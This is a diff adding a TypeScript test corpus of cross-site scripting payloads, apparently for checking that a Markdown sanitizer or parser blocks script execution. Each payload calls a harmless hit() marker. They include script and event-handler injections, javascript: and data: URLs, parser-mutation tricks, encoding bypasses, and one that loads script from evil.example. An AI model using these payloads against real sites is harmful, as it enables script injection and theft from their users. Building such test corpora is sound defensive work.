@@ -1,0 +1,20 @@
+/** Texts that try to run a script: each calls `hit()` if it succeeds. What filters and parsers of Markdown have fallen for. */
+export const payloads = [
+  "<script>hit()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>hit()</scr</script>ipt>", "<script\n>hit()</script\n>", "<script/x>hit()</script>",
+  "<img src=x onerror=hit()>", "<img src=x onerror=\"hit()\"/>", "<img src=`x` onerror=hit()>", "<img/src=x/onerror=hit()>", "<image href=x onerror=hit()>", "<IMG \"\"\"><SCRIPT>hit()</SCRIPT>\">",
+  "<svg onload=hit()>", "<svg><script>hit()</script></svg>", "<svg><animate onbegin=hit() attributeName=x dur=1s>", "<svg><a xlink:href=javascript:hit()><text x=9 y=9>x</text></a></svg>",
+  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hit()&gt;\">", "<math href=\"javascript:hit()\">click</math>",
+  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>", "<svg></p><style><a id=\"</style><img src=1 onerror=hit()>\">",
+  "<iframe src=javascript:hit()></iframe>", "<iframe srcdoc=\"<script>parent.hit()</script>\"></iframe>", "<object data=javascript:hit()>", "<embed src=javascript:hit()>", "<base href=javascript:hit()//>",
+  "<body onload=hit()>", "<details open ontoggle=hit()>x</details>", "<video><source onerror=hit()></video>", "<audio src=x onerror=hit()>", "<input autofocus onfocus=hit()>", "<select autofocus onfocus=hit()>",
+  "<marquee onstart=hit()>x</marquee>", "<p style=animation-name:x onanimationstart=hit()>x</p>", "<a href=\"javascript:hit()\">x</a>", "<a href=\" &#14; javascript:hit()\">x</a>", "<meta http-equiv=refresh content=\"0;url=javascript:hit()\">",
+  "<link rel=stylesheet href=javascript:hit()>", "<template><script>hit()</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">", "<textarea><script>hit()</script></textarea>", "<xmp><img src=x onerror=hit()></xmp>",
+  "[x](javascript:hit())", "[x](JaVaScRiPt:hit())", "[x](java\tscript:hit())", "[x](&#106;avascript:hit())", "[x](javascript&colon;hit())", "[x](<javascript:hit()>)", "[x](\u0001javascript:hit())", "[x](vbscript:hit())",
+  "[x](data:text/html,<script>parent.hit()</script>)", "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)", "<javascript:hit()>", "<data:text/html,x>", "[x]: javascript:hit()\n\n[x]", "[x](//evil.example \"\" onmouseover=hit())",
+  "![x](javascript:hit())", "![x\" onerror=\"hit()](x)", "![x](x\" onerror=\"hit())", "![x](<x\" onerror=hit() y=\">)", "![x](data:image/svg+xml,<svg onload=hit()>)", "[a](<x\" onclick=hit() y=\">)", "[a](x 'y\" onclick=\"hit()')",
+  "`<script>hit()</script>`", "```\n</code></pre><script>hit()</script>\n```", "```\"><script>hit()</script>\nx\n```", "```x\" onload=\"hit()\nx\n```", "    <script>hit()</script>",
+  "| <script>hit()</script> | x |\n|-|-|\n| <img src=x onerror=hit()> | y |", "# <img src=x onerror=hit()>", "- <svg/onload=hit()>", "> <script>hit()</script>", "[^1]\n\n[^1]: <img src=x onerror=hit()>", "- [ ] <img src=x onerror=hit()>",
+  "[[<img src=x onerror=hit()>]]", "[[x|<img src=x onerror=hit()>]]", "[[javascript:hit()]]", "![[<script>hit()</script>]]", "$\\href{javascript:hit()}{x}$", "$<img src=x onerror=hit()>$", "$\\text{<script>hit()</script>}$",
+  "@<script>hit()</script>", "#<img/src=x/onerror=hit()>", "&lt;script&gt;hit()&lt;/script&gt;", "\\<script>hit()\\</script>", "<!--><script>hit()</script>-->", "<!-- --!><img src=x onerror=hit()> -->", "<![CDATA[<script>hit()</script>]]>", "<?xml version=\"1.0\"?><script>hit()</script>",
+  "<a href=\"https://x.example\nonclick=hit()\">x</a>", "http://x.example/\"onmouseover=\"hit()", "<https://x.example/\"onmouseover=hit()>", "\u2028<script>hit()</script>", "<scr\u0000ipt>hit()</script>", "%3Cscript%3Ehit()%3C/script%3E", "<ｓcript>hit()</ｓcript>",
+];
